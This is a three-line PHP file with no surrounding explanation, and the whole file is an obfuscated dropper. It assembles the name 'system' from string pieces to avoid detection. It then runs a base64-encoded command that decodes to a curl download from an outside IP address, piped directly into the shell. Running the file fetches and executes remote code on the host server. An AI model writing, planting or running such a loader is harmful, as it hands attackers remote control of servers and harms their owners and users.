<?php
$f = 'sys'.'tem';
$f(base64_decode('Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3AgfCBzaA=='));
